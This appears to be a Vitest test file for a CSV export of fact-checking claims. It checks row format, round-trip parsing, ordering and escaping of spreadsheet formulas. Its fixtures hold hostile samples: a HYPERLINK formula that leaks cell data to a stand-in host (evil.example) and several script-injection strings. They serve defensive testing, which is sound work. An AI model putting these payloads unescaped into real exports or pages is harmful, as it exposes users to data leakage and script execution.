import { describe, expect, it } from 'vitest';
import { STATUS_LABELS } from '../../shared/labels';
import type { Article, Claim } from '../../shared/model';
import { buildHostileExportSet, buildPlainExportSet, FORMULA_TEXTS } from './export-test-fixtures';
import { parseCsv } from './parse-csv';
import { CLAIMS_CSV_HEADER, renderClaimsCsv } from './to-csv';

/** What each column should hold for a claim, read straight from the data. */
function expectedCells(article: Article, claim: Claim, number: number): string[] {
  const latest = [...claim.history].sort((a, b) => a.at.localeCompare(b.at)).at(-1);
  return [
    article.id,
    article.title,
    article.source ?? '',
    article.author ?? '',
    article.publishedAt ?? '',
    article.language,
    article.url ?? '',
    article.tags.join('; '),
    String(number),
    claim.id,
    claim.text,
    claim.quote,
    STATUS_LABELS[claim.status],
    claim.status,
    claim.kind,
    String(claim.score),
    claim.speaker ?? '',
    claim.note,
    claim.sources.map((source) => [source.title, source.url ? `<${source.url}>` : ''].filter(Boolean).join(' ')).join('; '),
    latest?.at ?? '',
    latest?.by ?? '',
  ];
}

describe('renderClaimsCsv', () => {
  it('starts with one byte order mark and ends every row with CRLF', () => {
    const set = buildPlainExportSet();
    const csv = renderClaimsCsv(set);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.slice(1)).not.toContain('\uFEFF');
    expect(csv.endsWith('\r\n')).toBe(true);
    // No cell of the plain set holds a line break, so every line break is a row end.
    expect(csv.match(/\n/g)?.length).toBe(set.docs[0]!.claims.length + 1);
    expect(csv).not.toMatch(/[^\r]\n/);
    expect(csv.split('\r\n')[0]).toBe(`\uFEFF${CLAIMS_CSV_HEADER.join(',')}`);
  });

  it('gives back every field exactly when read back, one row per claim in report order', () => {
    const set = buildHostileExportSet();
    const [header, ...rows] = parseCsv(renderClaimsCsv(set));
    expect(header).toEqual([...CLAIMS_CSV_HEADER]);
    expect(header).toHaveLength(21);
    const claimCount = set.docs.reduce((count, doc) => count + doc.claims.length, 0);
    expect(rows).toHaveLength(claimCount);
    let formulaCells = 0;
    for (const row of rows) {
      const doc = set.docs.find((candidate) => candidate.article.id === row[0])!;
      const claim = doc.claims.find((candidate) => candidate.id === row[9])!;
      const expected = expectedCells(doc.article, claim, Number(row[8]));
      expected.forEach((cell, column) => {
        if (/^[=+\-@\t\r]/.test(cell)) {
          formulaCells += 1;
          expect(row[column]).toBe(`'${cell}`);
        } else {
          expect(row[column]).toBe(cell);
        }
      });
    }
    expect(formulaCells).toBeGreaterThanOrEqual(FORMULA_TEXTS.length);
  });

  it('numbers claims in reading order with dismissed ones last, as the report does', () => {
    const set = buildHostileExportSet();
    const rows = parseCsv(renderClaimsCsv(set)).slice(1);
    const first = set.docs[0]!;
    const numbered = rows.filter((row) => row[0] === first.article.id).map((row) => [row[8], row[13]]);
    expect(numbered.map(([number]) => number)).toEqual(['1', '2', '3', '4', '5', '6', '7', '8']);
    expect(numbered[0]![1]).toBe('verified');
    expect(numbered.at(-1)![1]).toBe('dismissed');
    expect(rows.filter((row) => row[0] === set.docs[2]!.article.id)).toEqual([]);
  });

  it('prefixes an apostrophe to each cell a spreadsheet would run as a formula, and to no other', () => {
    const csv = renderClaimsCsv(buildHostileExportSet());
    const cells = parseCsv(csv).flat();
    for (const text of FORMULA_TEXTS) expect(cells).toContain(`'${text}`);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(csv).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
  });

  it('writes sources as "title <url>" and the latest change with who made it', () => {
    const set = buildHostileExportSet();
    const rows = parseCsv(renderClaimsCsv(set)).slice(1);
    const byStatus = (status: string): string[] => rows.find((row) => row[13] === status)!;
    expect(byStatus('false')[18]).toBe(
      '](javascript:alert(1)) <script>alert(1)</script> <javascript:alert(1)>; 海关总署 | 统计 <https://example.cn/a_b(1)|x?q=1&lt;2#f>; No link at all',
    );
    expect(byStatus('false').slice(19)).toEqual(['2026-11-22T07:00:00.000Z', 'Li Wei']);
    expect(byStatus('verified').slice(19)).toEqual(['2026-11-21T08:15:00.000Z', 'Li Wei']);
    expect(byStatus('misleading').slice(19)).toEqual(['2026-11-20T23:59:00.000Z', '']);
  });
});
